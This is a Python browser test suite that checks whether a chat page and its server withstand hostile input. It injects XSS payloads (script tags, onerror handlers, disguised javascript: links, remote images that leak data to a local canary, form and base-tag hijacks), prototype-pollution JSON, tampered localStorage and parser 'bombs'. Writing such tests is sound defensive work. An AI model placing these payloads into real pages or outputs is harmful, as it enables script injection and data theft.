#!/usr/bin/python3
"""What attackers try on the chat page and its server, in a real browser. Nothing may be reached.

  hostile_test.py SAAZ SOURCE_DIR     one line a case; status 1 when any differs

Model output, user text, model names, events of a lying server and a tampered localStorage meet the page; pages of other
origins, rebound names and raw requests meet `saaz serve`. A canary server counts whatever asks it: any request, any
script that runs, any broken rule of the page's policy fails the case.
"""

import json
import pathlib
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import hostile_origins
from chat_browser import Chat, case, finish

SAAZ, SOURCE = sys.argv[1], pathlib.Path(sys.argv[2])


class Canary(BaseHTTPRequestHandler):
    """Counts requests; serves the pages of an attacker under /page/NAME."""

    asked, pages = [], {}

    def do_GET(self):
        name = self.path.removeprefix("/page/")
        body = Canary.pages.get(name)
        if body is None:
            Canary.asked.append(self.path)
        body = (body or "").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *_):
        pass


def canary():
    server = ThreadingHTTPServer(("127.0.0.1", 0), Canary)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server.server_address[1]


PORT = canary()
TRAP = f"http://127.0.0.1:{PORT}/trap"
RUN = "window.pwned=1"

# What a model may be made to say, or a person made to paste.
PAYLOADS = {
    "a script": f"<script>{RUN}</script><script src='{TRAP}'></script>",
    "an image with a handler": f"<img src=x onerror='{RUN}'>",
    "an SVG with a handler": f"<svg onload='{RUN}'><animate onbegin='{RUN}' attributeName=x></svg>",
    "an iframe": f"<iframe src='{TRAP}' srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "a javascript: link": f"[click](javascript:{RUN})",
    "a javascript: link in disguise": f"[click](JaVaScRiPt:{RUN}) [b](java&#x73;cript:{RUN}) [c](\x01javascript:{RUN})",
    "a javascript: autolink": f"<javascript:{RUN}>",
    "a data: link": f"[click](data:text/html,<script>{RUN}</script>)",
    "vbscript:, file: and blob: links": "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:http://x/y)",
    "a remote image": f"![secret]({TRAP}?q=secret)",
    "a remote image as a link": f"[![x]({TRAP})]({TRAP})",
    "a remote image in HTML": f"<img src='{TRAP}'><picture><source srcset='{TRAP}'></picture><video poster='{TRAP}'>",
    "a reference image": f"![x][y]\n\n[y]: {TRAP}",
    "a style sheet": f"<style>@import url('{TRAP}');</style><link rel=stylesheet href='{TRAP}'>",
    "a style attribute": f"<p style=\"background:url('{TRAP}')\">x</p>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={TRAP}'>",
    "a form": f"<form action='{TRAP}' id=composer><input name=message><button>send</button></form>",
    "another base": f"<base href='{TRAP}/'>",
    "an object and an embed": f"<object data='{TRAP}'></object><embed src='{TRAP}'>",
    "code that ends its block": f"```\n</code></pre><script>{RUN}</script>\n```",
    "a language that is markup": f"```\"><img src=x onerror={RUN}>\nx\n```",
    "a table of markup": f"| <img src=x onerror={RUN}> | b |\n| --- | --- |\n| <svg onload={RUN}> | c |",
    "a target that leaves its attribute": f"[a](https://example.org/\"onmouseover=\"{RUN}) <https://x/\"onclick=\"{RUN}>",
    "a title that leaves its attribute": f"[a](https://example.org/ '\" onmouseover=\"{RUN}')",
    "a formula of markup": f"$<img src=x onerror={RUN}>$ $$<script>{RUN}</script>$$",
    "entities": "&lt;script&gt;window.pwned=1&lt;/script&gt; &#60;img src=x onerror=window.pwned=1&#62;",
    "a template": "{{constructor.constructor('window.pwned=1')()}} ${window.pwned=1} <%= window.pwned=1 %>",
    "names of the page's own elements": "<a id=message></a><form id=log name=settings></form>",
    "prefetches": f"<link rel=prefetch href='{TRAP}'><link rel=dns-prefetch href='//trap.test'><a ping='{TRAP}' href='#'>x</a>",
    "marks of direction": "\u202egnp.exe\u202c \u2066\u2067\u202d evil \u200f",
}
# Elements the Markdown of this page is made of; nothing else may appear in an answer.
KNOWN = ("div p h3 h4 h5 h6 ul ol li blockquote pre code table thead tbody tr th td strong em del a span bdi br hr button "
         "article header section").split()

NAMES = ["<img src=x onerror=window.pwned=1>", "\"><script>window.pwned=1</script>", "__proto__", "constructor",
         "javascript:window.pwned=1", "\u202eevil", "a" * 5000]


def untouched(chat):
    """What was reached: [] when nothing was."""
    found = chat.js("""
        const known = new Set(arguments[0] ?? %s);
        const odd = [...document.querySelectorAll('#turns *')].filter((e) => !known.has(e.localName)).map((e) => e.outerHTML);
        const handlers = [...document.querySelectorAll('#turns *')].flatMap((e) => [...e.attributes]).filter((a) => a.name.startsWith('on') || a.name === 'style' || a.name === 'src').map((a) => a.name);
        const links = [...document.querySelectorAll('#turns a')].map((a) => a.protocol).filter((p) => !['http:', 'https:', 'mailto:'].includes(p));
        return [...odd, ...handlers, ...links, ...(window.pwned ? ['a script ran'] : []), ...(window.broken ?? []),
                ...(Object.keys(Object.prototype).length || ({}).polluted !== undefined ? ['a prototype changed'] : [])];
    """ % json.dumps(KNOWN))
    return found + Canary.asked + [row["message"] for row in chat.console()]


def watch_policy(chat):
    chat.js("""window.broken = [];
        document.addEventListener('securitypolicyviolation', (e) => window.broken.push(e.violatedDirective + ' ' + e.blockedURI));
        window.alert = window.open = () => { window.pwned = 1; };""")


def text_of_models_and_people(chat):
    watch_policy(chat)
    for what, payload in PAYLOADS.items():
        chat.control(answers={"hello": {"*": payload}})
        chat.say("hello")
        chat.js("""for (const e of document.querySelectorAll('.turn:last-child .answer .text *'))
            for (const type of ['mouseover', 'mouseenter', 'focus']) e.dispatchEvent(new Event(type, {bubbles: true}));""")
        case(f"{what} from a model reaches nothing", untouched(chat) == [], untouched(chat))
    for what in ("a script", "an image with a handler", "a remote image", "a javascript: link", "a form"):
        chat.control(answers={})
        chat.say(PAYLOADS[what])
        case(f"{what} from a person reaches nothing", untouched(chat) == [], untouched(chat))
    shown = chat.js("return document.querySelector('.turn:last-child .message').textContent")
    case("what was typed is shown as it was typed", "<form action=" in shown, shown)
    chat.control(answers={"hello": {"*": PAYLOADS["a script"]}}, letters=1)
    chat.say("hello")
    case("a script in pieces of one letter reaches nothing", untouched(chat) == [], untouched(chat))
    chat.control(letters=3)


def time_and_size(chat):
    """No answer may hang the page: the slowest takes 1.3 s on two idle cores."""
    bombs = {
        "a thousand quotes deep": ">" * 3000 + " x", "deep lists": "\n".join("  " * i + "- x" for i in range(500)),
        "open brackets": "[" * 20000 + "](x)" * 2000, "open marks": "**a " * 10000 + "_" * 10000, "open code": "`" * 9999 + " ``` " * 3000,
        "blanks": "# " + " " * 50000 + "x", "pipes": "|" * 20000 + "\n" + "|-" * 20000, "a long line": "س " * 60000,
        "dollars": "$a" * 10000 + "\\(" * 5000, "dots in an address": "http://a" + "." * 30000,
    }
    chat.control(letters=100000)
    for what, bomb in bombs.items():
        chat.control(answers={"hello": {"*": bomb}})
        started = time.monotonic()
        chat.say("hello")
        took = time.monotonic() - started
        case(f"{what}: the page still answers ({took:.1f} s)", took < 10 and untouched(chat) == [], untouched(chat))
    chat.control(letters=3)


def names_of_models(chat):
    chat.control(models=[{"id": name} for name in NAMES] + [{"id": 7}, {"id": None}, "x", {"parent": "y"}, {"id": "base"}])
    chat.driver.refresh()
    chat.wait(lambda: chat.js("return document.getElementById('model').options.length") == len(NAMES) + 1)
    watch_policy(chat)
    for name in NAMES[:6]:
        chat.driver.execute_script("""const s = document.getElementById('model'); s.value = arguments[0];
            s.dispatchEvent(new Event('change'))""", name)
        chat.say("hello")
        shown = chat.text(".turn:last-child .who .model")
        case(f"a model called {name[:24]!r} is a name and no more", shown == name and untouched(chat) == [], [shown, *untouched(chat)])
        case(f"and is asked for as {name[:24]!r}", chat.asked()[-1]["model"] == name)
    chat.control(models=[{"id": "base"}])


def lying_server(chat):
    event = 'data: {"choices":[{"delta":{"content":%s}}]}\n\n'
    lies = {
        "keys that name prototypes": ['data: {"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"choices":[{"delta":{"__proto__":{"polluted":1},"content":"x"}}]}\n\n'],
        "content that is no text": [event % '{"toString":"x"}', event % "[1]", event % "7", event % "null"],
        "choices that are none": ['data: {"choices":{"length":1e9}}\n\n', 'data: {"choices":[]}\n\n', "data: null\n\n", "data: []\n\n"],
        "usage that is none": ['data: {"choices":[],"usage":{"completion_tokens":"<b>"}}\n\n'],
        "comments and other fields": [": ping\n\n", "event: x\nid: y\nretry: 1\n\n"],
    }
    for what, raw in lies.items():
        chat.control(raw=raw, answers={"hello": {"*": "fine"}})
        chat.say("hello")
        case(f"events with {what} do no harm", chat.last_answer().endswith("fine") and untouched(chat) == [], [chat.last_answer(), *untouched(chat)])
    chat.control(raw=["data: <html>\n\n"])
    chat.say("hello")
    case("an event that is no JSON ends the answer with words", chat.text(".turn:last-child .trouble") != "" and untouched(chat) == [])
    chat.control(raw=["data: " + "x" * (1 << 21)])
    chat.say("hello")
    case("an event without end is cut off", chat.text(".turn:last-child .trouble") != "" and untouched(chat) == [])
    chat.control(raw=[], refuse="<img src=x onerror=window.pwned=1>")
    chat.say("hello")
    logged = chat.console()
    chat.logged = [row for row in logged if "status of 400" not in row["message"]]
    case("an error message is text", "<img" in chat.text(".turn:last-child .trouble") and untouched(chat) == [], untouched(chat))
    chat.control(refuse=None, redirect=TRAP)
    chat.say("hello")
    chat.logged = [row for row in chat.console() if "net::ERR_FAILED" not in row["message"]]
    case("a redirect to another server is not followed", Canary.asked == [] and chat.text(".turn:last-child .trouble") != "", Canary.asked)
    chat.control(redirect=None)


def tampered_storage(chat):
    turn = {"text": "<img src=x onerror=window.pwned=1>", "answers": [{"model": "<b>x", "text": PAYLOADS["a script"], "finish": "stop"}]}
    values = {
        "no JSON": "<script>window.pwned=1</script>", "a list": "[]", "a number": "7", "null": "null", "a string": '"x"',
        "prototypes": '{"__proto__":{"polluted":1},"turns":[{"__proto__":{"polluted":1},"text":"a","answers":[]}],"settings":{"__proto__":{"polluted":1}}}',
        "markup": json.dumps({"turns": [turn], "settings": {"model": "<img src=x onerror=window.pwned=1>", "system": "<b>"}}),
        "wrong kinds": '{"turns":{"length":9},"settings":[1]}',
        "deep wrong kinds": '{"turns":[1,null,{"text":7,"answers":"x"},{"text":"ok","answers":[7,{"text":{},"tokens":"9","finish":"<b>"}]}],"settings":{"parameters":{"temperature":"x","seed":1e99}}}',
        "too much": json.dumps({"turns": [{"text": "x" * 4_200_000, "answers": []}]}),
    }
    for what, value in values.items():
        chat.js(f"localStorage.setItem('saaz-chat', {json.dumps(value)})")
        chat.open()
        watch_policy(chat)
        case(f"a kept conversation that is {what} does no harm", chat.shown("#message") and untouched(chat) == [], untouched(chat))
    chat.js("localStorage.setItem('saaz-language', '<script>'); localStorage.removeItem('saaz-chat')")
    chat.open("?q=send+this&lang=%3Cscript%3E&prompt=x#message=x")
    before = len(chat.asked())
    time.sleep(0.3)
    case("an address submits nothing", len(chat.asked()) == before and chat.find("#message").get_attribute("value") == "" and untouched(chat) == [])


def main():
    with Chat(SAAZ, SOURCE, {"models": [{"id": "base"}]}) as chat:
        text_of_models_and_people(chat)
        time_and_size(chat)
        names_of_models(chat)
        lying_server(chat)
        tampered_storage(chat)
    hostile_origins.run(SAAZ, SOURCE, Canary, PORT)
    finish()


main()
